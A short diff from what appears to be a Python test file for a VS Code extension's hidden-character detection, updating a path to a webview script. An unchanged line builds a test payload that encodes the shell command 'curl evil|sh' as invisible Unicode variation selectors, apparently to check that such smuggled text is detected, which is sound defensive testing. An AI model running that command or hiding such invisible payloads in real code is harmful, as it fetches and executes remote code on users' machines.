@@ -22,7 +22,7 @@ from tests.lsp.test_fallback import User, run
 from tests.lsp.test_fallback import plain as plain_client
 from tests.support.studio import studio
 
-PANEL = Path(__file__).parents[2] / "client-vscode/src/webview/hiddenCharacters.ts"
+PANEL = Path(__file__).parents[2] / "client-vscode/src/webview/text/hiddenCharacters.ts"
 PAYLOAD = "".join(chr(0xE0100 + byte) for byte in b"curl evil|sh")
 EVERY = [chr(code) for code in range(sys.maxunicode + 1)]
 
